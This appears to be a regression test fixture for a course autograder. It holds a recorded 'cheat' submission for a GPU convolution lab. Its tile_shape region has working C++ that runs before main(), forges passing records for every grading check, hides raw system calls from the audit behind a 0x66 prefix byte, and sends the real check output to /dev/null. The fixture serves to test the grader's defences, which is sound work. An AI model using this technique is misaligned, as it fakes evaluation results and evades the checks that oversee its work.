// Cheat, Lab 05 (found by probing; it got full marks before a region could no longer hold asm or
// attributes): the whole record stream, forged before main() runs, by a lab that computes nothing
// (the kernel and launch regions are the starter's TODOs). The tile_shape region is at namespace
// scope, so it defines a function with `__attribute__((constructor))`: glibc calls it before main()
// with (argc, argv, envp), so it finds the run's key (then the environment variable
// COURSE_REPORT_KEY; now it comes on standard input, read in main) in envp without calling getenv,
// and builds a start and a passed end for every rubric check plus the final "done". It
// reaches the kernel with raw system calls in inline asm, each `syscall` prefixed with a 0x66 byte
// so that the audit's disassembly read the mnemonic as "data16" instead: write(3, records), then
// open("/dev/null"), dup2 onto fd 3 and close, so that the checks' own records go nowhere.
// Why it fails now: a region may hold neither asm nor __attribute__ (anywhere), so the submission is
// refused before anything is compiled. (Behind that, the audit now skips instruction prefixes such
// as data16 and refuses a raw system call.) Expected: refused_region.
//
// Region-overlay form: all three regions, as the probe submitted them.

// BEGIN STUDENT REGION tile_shape
constexpr int kBlockX = 32;
constexpr int kBlockY = 8;
constexpr int kRowsPerThread = 1;
namespace report {
// A system call with a data16 prefix byte: the audit's disassembly reads the mnemonic "data16".
inline long sys3(long nr, long a, long b, long c) {
    long ret;
    asm volatile(".byte 0x66\n\tsyscall" : "=a"(ret) : "a"(nr), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
    return ret;
}
struct Text {
    char bytes[8192];
    unsigned long size = 0;
    Text& operator<<(const char* s) {
        while (*s && size < sizeof bytes) bytes[size++] = *s++;
        return *this;
    }
    Text& operator<<(unsigned long v) {
        char digits[24];
        int n = 0;
        do digits[n++] = static_cast<char>('0' + v % 10); while ((v /= 10) != 0);
        while (n > 0 && size < sizeof bytes) bytes[size++] = digits[--n];
        return *this;
    }
};
__attribute__((constructor)) void forge(int, char**, char** envp) {
    const char* key = nullptr;
    for (char** e = envp; e && *e && !key; ++e) {
        const char* want = "COURSE_REPORT_KEY=";
        int i = 0;
        while (want[i] && (*e)[i] == want[i]) ++i;
        if (!want[i]) key = *e + i;
    }
    if (!key) return;
    const char* const checks[] = {"exact results on integer images at edge sizes", "random floats within the rounding bound",
                                  "halo_convolution_kernel uses a shared-memory tile",
                                  "speed: 7x7 filter well ahead of the naive kernel", "speed: 3x3 filter near copy bandwidth",
                                  "speed: 5x5 filter near copy bandwidth"};
    static Text text;
    unsigned long seq = 0;
    for (const char* check : checks) {
        text << "{\"key\":\"" << key << "\",\"seq\":" << seq++ << ",\"event\":\"start\",\"check\":\"" << check << "\"}\n";
        text << "{\"key\":\"" << key << "\",\"seq\":" << seq++ << ",\"event\":\"end\",\"check\":\"" << check
             << "\",\"passed\":true,\"class\":\"pass\",\"message\":\"\",\"hint\":\"\",\"notes\":[],\"seconds\":0.5}\n";
    }
    text << "{\"key\":\"" << key << "\",\"seq\":" << seq << ",\"event\":\"done\"}\n";
    sys3(1, 3, reinterpret_cast<long>(text.bytes), static_cast<long>(text.size));       // write(3, ...)
    const long null_fd = sys3(2, reinterpret_cast<long>("/dev/null"), 1 /* O_WRONLY */, 0);  // open
    sys3(33, null_fd, 3, 0);                                                           // dup2(null, 3)
    sys3(3, null_fd, 0, 0);                                                            // close(null)
}
}  // namespace report
// END STUDENT REGION
// BEGIN STUDENT REGION halo_convolution_kernel
    // TODO 1 (~7 lines): the tile. With R = K / 2 (a constexpr int), it is kTileW = kBlockX + 2 * R
    //        columns by kTileH = kBlockY * kRowsPerThread + 2 * R rows; declare
    //        `__shared__ float tile[kTileH][kTileW];`. tile[0][0] holds image pixel (x0, y0), where
    //        x0 = blockIdx.x * kBlockX - R and y0 = blockIdx.y * (kBlockY * kRowsPerThread) - R.
    //        Cast blockIdx to int first: blockIdx.x * kBlockX - R is unsigned, and wraps at block 0.
    // TODO 2 (~9 lines): load the tile and its halo cooperatively. With tid = threadIdx.y * kBlockX +
    //        threadIdx.x, thread tid takes tile elements e = tid, tid + kBlockX * kBlockY, ... while
    //        e < kTileW * kTileH: element e is tile[e / kTileW][e % kTileW], which is image pixel
    //        gx = x0 + e % kTileW, gy = y0 + e / kTileW. Store in[gy * width + gx] there, or 0.0f when
    //        (gx, gy) lies outside the image: tiles at the border have halos that hang over the edge.
    // TODO 3 (1 line): a barrier, so that the whole tile is in shared memory before anyone reads it.
    // TODO 4 (~8 lines): each thread computes its output pixel x = x0 + R + threadIdx.x,
    //        y = y0 + R + threadIdx.y from shared memory only: the sum over i, j in [0, K) of
    //        c_weights[i * K + j] * tile[threadIdx.y + i][threadIdx.x + j]. Store it to
    //        out[y * width + x] only when x < width and y < height (the last tiles overhang the image).
    //
    // Top tier (the speed checks need it; see the handout): set kRowsPerThread to 8 and let each
    // thread compute the column of outputs ty0 .. ty0 + 7 (ty0 = threadIdx.y * kRowsPerThread),
    // reading each tile row it needs from shared memory once, into K registers, and adding those
    // into every output that uses that row. Load the tile with a fixed number of rounds
    // (#pragma unroll): all of a thread's loads first, into registers, then all its stores.
// END STUDENT REGION
// BEGIN STUDENT REGION launch
    // TODO 5 (~4 lines): launch halo_convolution_kernel<K> with blocks of kBlockX x kBlockY threads
    //        and a grid that covers the whole image: course::ceil_div(width, kBlockX) blocks along x,
    //        course::ceil_div(height, kBlockY * kRowsPerThread) along y (dim3 takes unsigned).
// END STUDENT REGION
